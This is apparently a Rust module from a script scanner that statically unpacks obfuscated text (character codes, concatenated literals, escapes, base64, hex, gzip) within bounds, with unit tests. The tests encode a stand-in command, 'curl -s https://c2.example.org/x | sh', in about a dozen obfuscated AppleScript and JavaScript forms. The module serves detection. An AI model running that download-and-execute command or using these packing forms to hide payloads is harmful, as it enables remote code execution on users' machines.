//! What a script hides from who reads it: text spelled as numbers, put together of pieces, in base64 or in
//! hexadecimal. It is unpacked as far as it goes without running anything, and within limits.

use std::io::Read;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, Anchored, Input, StartKind};
use base64::Engine;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};

/// Bytes of a script that are looked through.
const MAX_INPUT: usize = 1 << 20;
/// Layers of packing.
const MAX_DEPTH: usize = 4;
/// Texts of all layers.
const MAX_TEXTS: usize = 32;
/// Bytes of all texts.
const MAX_BYTES: usize = 64 << 10;
/// A text that is packed is at least this long.
const MIN_TEXT: usize = 4;
/// Characters of base64 or hexadecimal in a row that may be a text: fewer are words.
const MIN_RUN: usize = 16;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);

/// The texts that are packed in this one, and those in them.
pub(super) fn unpack(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let mut bytes = 0;
    let mut layer = vec![text[..text.floor_char_boundary(MAX_INPUT)].to_owned()];
    for _ in 0..MAX_DEPTH {
        let mut next = Vec::new();
        for text in &layer {
            for unpacked in [expressions(text), escapes(text), runs(text)].concat() {
                if found.len() >= MAX_TEXTS || bytes + unpacked.len() > MAX_BYTES {
                    return found;
                }
                if unpacked.len() >= MIN_TEXT && unpacked != *text && !found.contains(&unpacked) {
                    bytes += unpacked.len();
                    found.push(unpacked.clone());
                    next.push(unpacked);
                }
            }
        }
        layer = next;
    }
    found
}

/// What an expression begins with: a quote, or what makes text of numbers.
static BEGINNINGS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let quotes = ["\"", "'", "\u{201C}"];
    let names = ["character id", "string id", "ASCII character", "String.fromCharCode", "String.fromCodePoint"];
    let mut builder = AhoCorasick::builder();
    builder.ascii_case_insensitive(true).start_kind(StartKind::Both);
    builder.build(quotes.into_iter().chain(names)).expect("a few short patterns")
});

/// Texts that are put together of literals and numbers: `"cu" & "rl"`, `character id {99, 117}`,
/// `String.fromCharCode(99, 117)`, `ASCII character 99`.
fn expressions(text: &str) -> Vec<String> {
    let mut scanner = Scanner { quotes: vec!['"', '\'', '\u{201C}'] };
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(start) = BEGINNINGS.find(rest) {
        rest = &rest[start.start()..];
        let (value, weight, used) = scanner.expression(rest);
        found.extend(Some(value).filter(|_| weight > 1));
        let step = if weight > 0 { used } else { rest.chars().next().map_or(1, char::len_utf8) };
        rest = &rest[step..];
        if found.len() >= MAX_TEXTS {
            break;
        }
    }
    found
}

/// Reads expressions. A quote that does not close once does not close later: it is not looked for again.
struct Scanner {
    quotes: Vec<char>,
}

impl Scanner {
    /// The value of the terms from here on, how much they count (numbers count twice), and their bytes.
    fn expression(&mut self, text: &str) -> (String, usize, usize) {
        let (mut value, mut weight, mut used) = (String::new(), 0, 0);
        let mut next = self.term(text);
        while let Some((part, counts, end)) = next {
            value += &part;
            weight += counts;
            used += end;
            let after = &text[used..];
            let space = |letter: char| letter.is_whitespace() || letter == '\u{AC}';
            let joint = after.trim_start_matches(|letter| space(letter) || letter == ')');
            next = joint.strip_prefix(['&', '+']).and_then(|operand| {
                let operand = operand.trim_start_matches(|letter| space(letter) || letter == '(');
                let skipped = after.len() - operand.len();
                self.term(operand).map(|(part, counts, end)| (part, counts, skipped + end))
            });
        }
        (value, weight, used)
    }

    /// A literal or numbers.
    fn term(&mut self, text: &str) -> Option<(String, usize, usize)> {
        let first = text.chars().next()?;
        if "\"'\u{201C}".contains(first) {
            if !self.quotes.contains(&first) {
                return None;
            }
            let literal = literal(text, first);
            if literal.is_none() {
                self.quotes.retain(|quote| *quote != first);
            }
            return literal.map(|(value, used)| (value, 1, used));
        }
        let name = BEGINNINGS.find(Input::new(text).anchored(Anchored::Yes))?.end();
        let (numbers, used) = numbers(&text[name..])?;
        Some((numbers.into_iter().filter_map(char::from_u32).collect(), 2, name + used))
    }
}

fn literal(text: &str, quote: char) -> Option<(String, usize)> {
    let closing = if quote == '\u{201C}' { '\u{201D}' } else { quote };
    let (mut value, mut is_escaped) = (String::new(), false);
    for (at, letter) in text.char_indices().skip(1) {
        match letter {
            _ if is_escaped => {
                value.push(match letter {
                    'n' | 'r' => '\n',
                    't' => '\t',
                    other => other,
                });
                is_escaped = false;
            }
            '\\' => is_escaped = true,
            _ if letter == closing => return Some((value, at + letter.len_utf8())),
            letter => value.push(letter),
        }
    }
    None
}

/// `99`, `(99)`, `{99, 117}`, `(0x63, 117)`, and their bytes.
fn numbers(text: &str) -> Option<(Vec<u32>, usize)> {
    let opened = text.trim_start();
    let is_list = opened.starts_with(['{', '(']);
    let (mut found, mut digits, mut used) = (Vec::new(), String::new(), text.len() - opened.len());
    for (at, letter) in opened.char_indices() {
        match letter {
            '{' | '(' if at == 0 => {}
            letter if letter.is_ascii_alphanumeric() => digits.push(letter),
            ',' | '}' | ')' | ' ' | '\n' | '\t' | '\r' => {
                found.extend(number(&digits));
                let ends = !is_list && !digits.is_empty() || matches!(letter, '}' | ')');
                digits.clear();
                if ends {
                    let closes = is_list && matches!(letter, '}' | ')');
                    return (!found.is_empty()).then_some((found, used + at + usize::from(closes)));
                }
            }
            _ => break,
        }
        if digits.len() > 8 || found.len() > MAX_BYTES {
            return None;
        }
        used = text.len() - opened.len();
    }
    found.extend(number(&digits));
    (!is_list && !found.is_empty()).then_some((found, used + digits.len()))
}

fn number(digits: &str) -> Option<u32> {
    match digits.strip_prefix("0x").or_else(|| digits.strip_prefix("0X")) {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => digits.parse().ok(),
    }
}

/// Texts of `%63%75`, `\x63\x75` and `\u0063\u0075`.
fn escapes(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (prefix, digits) in [("%", 2), ("\\x", 2), ("\\u", 4)] {
        let mut rest = text;
        while let Some(start) = rest.find(prefix) {
            rest = &rest[start..];
            let mut units = Vec::new();
            while let Some(unit) = rest.strip_prefix(prefix).and_then(|rest| rest.get(..digits)) {
                let Ok(unit) = u16::from_str_radix(unit, 16) else { break };
                units.push(unit);
                rest = &rest[prefix.len() + digits..];
            }
            if units.is_empty() {
                rest = &rest[prefix.len()..];
            } else if digits == 4 {
                found.extend(String::from_utf16(&units).ok());
            } else {
                found.extend(readable(&units.iter().map(|unit| unit.to_be_bytes()[1]).collect::<Vec<u8>>()));
            }
        }
    }
    found.retain(|text| text.len() >= MIN_TEXT);
    found
}

/// Texts in base64 and in hexadecimal.
fn runs(text: &str) -> Vec<String> {
    let is_part = |letter: char| letter.is_ascii_alphanumeric() || "+/_-=".contains(letter);
    let runs = text.split(|letter: char| !is_part(letter)).filter(|run| run.len() >= MIN_RUN);
    runs.filter_map(|run| {
        let is_hex = run.len().is_multiple_of(2) && run.bytes().all(|byte| byte.is_ascii_hexdigit());
        let hex = || {
            let pairs = run.as_bytes().chunks_exact(2);
            pairs.map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect::<Option<Vec<u8>>>()
        };
        let decoded = if is_hex { hex().and_then(|bytes| readable(&bytes)) } else { None };
        decoded.or_else(|| {
            let base64 = run.trim_start_matches(['-', '_']);
            let decode = |engine: &GeneralPurpose| engine.decode(base64).ok().and_then(|bytes| readable(&bytes));
            decode(&STANDARD).or_else(|| decode(&URL_SAFE))
        })
    })
    .collect()
}

/// Bytes as text, when they are one: UTF-8, UTF-16, or packed by gzip.
fn readable(bytes: &[u8]) -> Option<String> {
    if bytes.starts_with(&[0x1F, 0x8B]) {
        let mut text = Vec::new();
        flate2::read::GzDecoder::new(bytes).take(MAX_BYTES as u64).read_to_end(&mut text).ok()?;
        return String::from_utf8(text).ok();
    }
    let is_text = |text: &str| {
        let odd = text.chars().filter(|letter| letter.is_control() && !letter.is_whitespace() || *letter == '\u{FFFD}');
        text.chars().any(char::is_alphanumeric) && odd.count() == 0
    };
    let half = |first: usize| bytes.len() >= 8 && bytes.iter().skip(first).step_by(2).all(|byte| *byte == 0);
    let is_little_endian = half(1);
    if is_little_endian || half(0) {
        let pair = |unit: &[u8]| {
            if is_little_endian {
                u16::from_le_bytes([unit[0], unit[1]])
            } else {
                u16::from_be_bytes([unit[0], unit[1]])
            }
        };
        let units: Vec<u16> = bytes.chunks_exact(2).map(pair).collect();
        return String::from_utf16(&units).ok().filter(|text| is_text(text));
    }
    std::str::from_utf8(bytes).ok().filter(|text| is_text(text)).map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl -s https://c2.example.org/x | sh";

    #[test]
    fn packed_texts_come_out_as_they_were() {
        let numbers: Vec<String> = COMMAND.bytes().map(|byte| byte.to_string()).collect();
        let hex: String = COMMAND.bytes().map(|byte| format!("{byte:02x}")).collect();
        let escaped = |prefix: &str| COMMAND.bytes().map(|byte| format!("{prefix}{byte:02x}")).collect::<String>();
        let base64 = STANDARD.encode(COMMAND);
        for packed in [
            format!("run script (character id {{{}}})", numbers.join(", ")),
            format!("do shell script (string id {{{}}})", numbers.join(",")),
            format!("eval(String.fromCharCode({}))", numbers.join(",")),
            numbers.iter().map(|number| format!("(ASCII character {number})")).collect::<Vec<_>>().join(" & "),
            numbers.iter().map(|number| format!("ASCII character {number}")).collect::<Vec<_>>().join(" & "),
            "do shell script \"curl -s \" & \"https://c2.\" & \"example.org/x\" & \" | sh\"".to_owned(),
            "do shell script (\"curl -s \" & \u{AC}\n \"https://c2.example.org/x | \") & (character id 115) & \"h\""
                .to_owned(),
            "app.doShellScript('curl -s https://c2.exa' + 'mple.org/x | sh')".to_owned(),
            format!("do shell script \"echo {base64} | base64 -d | sh\""),
            format!("do shell script \"echo {hex} | xxd -r -p | sh\""),
            format!("eval(unescape('{}'))", escaped("%")),
            format!("eval('{}')", escaped("\\x")),
            format!("eval('{}')", escaped("\\u00")),
        ] {
            assert!(unpack(&packed).iter().any(|text| text == COMMAND), "{packed}: {:?}", unpack(&packed));
        }
    }

    #[test]
    fn what_is_packed_more_than_once_is_unpacked_to_a_depth() {
        let mut packed = COMMAND.to_owned();
        for _ in 0..MAX_DEPTH {
            packed = STANDARD.encode(packed);
        }
        assert_eq!(unpack(&packed).last().map(String::as_str), Some(COMMAND));
        assert_ne!(unpack(&STANDARD.encode(packed)).last().map(String::as_str), Some(COMMAND));
    }

    #[test]
    fn plain_scripts_have_nothing_packed_in_them() {
        for text in [
            "tell application \"Finder\" to get name of every disk",
            "set x to \"a\" & y & \"b\"",
            "do shell script \"/usr/bin/find /Library/Application\\\\ Support -name com.apple.something\"",
            "ObjC.import('Foundation'); $.NSFileManager.defaultManager.contentsOfDirectoryAtPathError('/tmp', null)",
            "the user's file isn't here & it's 'there'",
        ] {
            assert_eq!(unpack(text), [""; 0], "{text}");
        }
    }

    /// Squared, these take minutes.
    #[test]
    fn a_megabyte_of_one_letter_or_of_zeros_costs_no_more_than_its_length() {
        for byte in [b'A', b'0', b'/', b'%', b'"', b'c', b' ', b'-'] {
            assert_eq!(unpack(&String::from_utf8(vec![byte; MAX_INPUT]).unwrap()), [""; 0]);
        }
        let zeros = STANDARD.encode(vec![0; MAX_INPUT / 2]);
        assert_eq!(unpack(&zeros), [""; 0]);
        let wide: Vec<u8> = "a".repeat(MAX_INPUT / 8).encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert!(unpack(&STANDARD.encode(wide)).is_empty(), "longer than all texts together may be");
    }

    #[test]
    fn unpacking_is_bounded() {
        let many = (0..100_000).map(|n| format!("\"a{n}\" & \"bcd\", ")).collect::<String>();
        assert!(unpack(&many).len() <= MAX_TEXTS);
        let long = STANDARD.encode(vec![b'a'; 1 << 20]);
        assert!(unpack(&long).iter().map(String::len).sum::<usize>() <= MAX_BYTES);
        for text in ["\"", "'", "\"a\" &", "character id {", "character id {1,", "%", "\\u", "%4", "\u{201C}", "("] {
            unpack(&text.repeat(10_000));
        }
    }
}
